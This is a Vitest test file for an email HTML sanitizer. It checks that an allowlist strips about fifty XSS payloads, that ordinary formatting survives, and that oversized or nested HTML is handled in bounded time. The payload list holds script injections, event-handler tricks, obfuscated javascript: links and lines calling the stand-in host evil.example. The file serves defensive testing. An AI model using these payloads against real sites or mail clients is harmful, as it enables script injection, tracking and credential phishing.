import { describe, expect, test } from 'vitest'
import { HTML_DEPTH, HTML_LENGTH, MOST_QUOTES, MOST_TAGS } from '../../../src/inbound/reading/html-bounds.ts'
import { countWork } from '../../work.ts'
import { mailOf } from '../signed-mail.ts'
import { read } from './a-reading.ts'

function html(body: string): string {
  return mailOf({ 'MIME-Version': '1.0', 'Content-Type': 'text/html; charset=utf-8' }, body)
}

/** The only tags and attributes that are let through; in text, `<` is written `&lt;`. */
const NAME =
  'a|b|blockquote|br|code|dd|del|div|dl|dt|em|h[1-6]|hr|i|ins|li|ol|p|pre|s|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul'
const ATTRIBUTE =
  'href="(?:https?:|mailto:)[^"<>]*"|rel="noopener noreferrer nofollow"|(?:col|row)span="\\d+"'
const HARMLESS = new RegExp(`^(?:</?(?:${NAME})(?: (?:${ATTRIBUTE}))* ?/?>|[^<>])*$`)

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" alt="a &quot; onerror=alert(1) picture">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/v1/support/tickets">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed;inset:0" target="_top">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>body{background:url(https://evil.example/)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/);display:none">hidden</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password type=password><button formaction=x>go</button></form>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
  '<video src=x onerror=alert(1)></video><audio src=x>',
  '<table background="https://evil.example/"><tr><td background=x>y</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p id=a name=b class=c>x</p>',
  '<b onmouseover=alert(1)>x</b>',
  '<a href="https://evil.example/"x="><img src=x onerror=alert(1)>">x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<body onload=alert(1)>x',
  '<isindex action=javascript:alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p>a\u0000<scr\u0000ipt>alert(1)</script></p>',
  '<<script>alert(1)//<</script>',
  '<a href="https://a.example/?x=<script>alert(1)</script>">x</a>',
]

describe('HTML of strangers does nothing', () => {
  test.each(PAYLOADS)('%s', async (payload) => {
    const mail = await read(html(`<p>before</p>${payload}<p>after</p>`))
    expect(mail.html).toContain('<p>before</p>')
    expect(mail.html).toMatch(HARMLESS)
    expect(mail.html).not.toMatch(/evil\.example\/(?:pixel|x\.)|javascript:/i)
    expect(mail.wholeText).toContain('before')
  })

  test('and a payload that is let through would be seen', () => {
    for (const live of [
      '<img src=x onerror=alert(1)>',
      '<p style="x">x</p>',
      '<a href="javascript:alert(1)">x</a>',
    ]) {
      expect(live).not.toMatch(HARMLESS)
    }
  })
})

describe('what a person wrote stays', () => {
  test('marks, lists, tables and links', async () => {
    const body =
      '<p>One <b>two</b></p><ul><li>three</li></ul><table><tr><td colspan="2">four</td></tr></table><a href="https://ok.example/a?b=c&amp;d">five</a>'
    const mail = await read(html(body))
    expect(mail.html).toBe(
      body.replace(
        '<a href="https://ok.example/a?b=c&amp;d">',
        '<a href="https://ok.example/a?b=c&amp;d" rel="noopener noreferrer nofollow">',
      ),
    )
    expect(mail.wholeText).toContain('- three')
    expect(mail.wholeText).toContain('five <https://ok.example/a?b=c&d>')
  })

  test('the description of a picture', async () => {
    expect((await read(html('<p>x</p><img src="cid:a" alt="a red lamp">'))).html).toBe(
      '<p>x</p><span>[a red lamp]</span>',
    )
  })

  test('what was hidden is seen', async () => {
    const mail = await read(html('<p style="display:none">hidden</p><p hidden>too</p>'))
    expect(mail.html).toBe('<p>hidden</p><p>too</p>')
  })
})

describe('too much of it is a file, and its words are read', () => {
  test.each([
    ['long', `${'<b>word</b> '.repeat(HTML_LENGTH / 10)}`],
    ['deep', `${'<div>'.repeat(HTML_DEPTH + 1)}word`],
    ['a quote in a quote in a quote', `${'<blockquote>'.repeat(200)}${'word<br>'.repeat(10_000)}`],
    ['a list in a list', `${'<ul><li>'.repeat(200)}${'word<br>'.repeat(10_000)}`],
    ['a table in a table', `${'<table><tr><td>'.repeat(200)}word`],
  ])('%s', async (_how, body) => {
    const worked = countWork()
    const mail = await read(html(body))
    expect(worked()).toBeLessThan(1500)
    expect(mail.html).toBeNull()
    expect(mail.wholeText).toContain('word')
    expect(mail.uncertain).toBe(true)
    expect(mail.attachments.map(({ filename, bytes }) => [filename, bytes.length])).toEqual([
      ['message.html', body.length],
    ])
  })

  test.each([
    '<p>',
    '<p></p>',
    '<div></div>',
    '<table><tr><td>x</table>',
    '<ul><li>a</ul>',
    '<li>a',
    '<b>x</b> ',
    '<',
    '<a href="https://a.example/">y</a>',
    '<br>',
    '<pre>\n</pre>',
    '&amp;',
    '<blockquote>x</blockquote>',
    '</div>',
  ])('as much as is allowed of %s is read in time', async (piece) => {
    const tags = piece.match(/<\/?\w/g)?.length ?? 0
    const times = Math.floor(Math.min(HTML_LENGTH / piece.length, MOST_TAGS / tags))
    const body = piece.repeat(piece.includes('blockquote') ? MOST_QUOTES : times)
    const worked = countWork()
    const mail = await read(html(body))
    expect(worked()).toBeLessThan(1500)
    expect(mail.attachments).toHaveLength(0)
  })
})
